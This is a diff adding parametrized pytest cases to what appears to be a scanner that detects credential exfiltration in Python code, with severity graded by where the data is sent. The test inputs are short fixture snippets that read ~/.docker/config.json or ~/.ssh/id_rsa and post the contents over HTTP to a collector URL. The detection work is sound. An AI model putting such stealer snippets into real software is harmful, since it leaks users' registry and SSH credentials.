@@ -250,3 +250,54 @@ def test_a_dropbox_upload_is_a_network_send() -> None:
     assert "exfiltration.credentials" in found(src, "pkg/sync.py")
     quiet = src.replace("os.path.expanduser('~/.ssh/id_rsa')", "'report.csv'")
     assert "exfiltration.credentials" not in found(quiet, "pkg/sync.py")
+
+
+CREDENTIALS = "exfiltration.credentials"
+DOCKER = "open(os.path.expanduser('~/.docker/config.json')).read()"
+
+
+@pytest.mark.parametrize(
+    ("src", "expected"),
+    [
+        # sent to a host written in the code, in a function the user calls: a stealer
+        (
+            f"import os, requests\ndef f():\n    k = {DOCKER}\n    requests.post({URL!r}, data=k)\n",
+            "critical",
+        ),
+        # to a host the caller gives (a registry's token endpoint): a client logging in
+        (
+            f"import os, requests\ndef f(realm):\n    k = {DOCKER}\n    requests.post(realm, data=k)\n",
+            "medium",
+        ),
+        # the same client, called when the module is imported
+        (
+            f"import os, requests\ndef f(realm):\n    k = {DOCKER}\n"
+            "    requests.post(realm, data=k)\nf(os.environ['REALM'])\n",
+            "critical",
+        ),
+        # through a helper, with the collector written into the call ...
+        (
+            "import os, requests\ndef send(u, d):\n    requests.post(u, data=d)\n"
+            f"def f():\n    send({URL!r}, {DOCKER})\n",
+            "critical",
+        ),
+        # ... or into the helper
+        (
+            f"import os, requests\ndef send(d):\n    requests.post({URL!r}, data=d)\n"
+            f"def f():\n    send({DOCKER})\n",
+            "critical",
+        ),
+        # a session attribute posting a stored token to the realm a method is given
+        (
+            f"import os, requests\ndef load():\n    return {DOCKER}\nclass C:\n"
+            "    def __init__(self):\n        self.s = requests.Session()\n        self.c = load()\n"
+            "    def token(self, realm):\n        return self.s.post(realm, data={'t': self.c})\n",
+            "medium",
+        ),
+    ],
+    ids=["collector", "given-host", "given-host-on-import", "helper-call", "helper", "method"],
+)
+def test_credentials_sent_at_run_time_are_critical_only_to_a_written_host(
+    src: str, expected: str
+) -> None:
+    assert found(src).get(CREDENTIALS) == expected
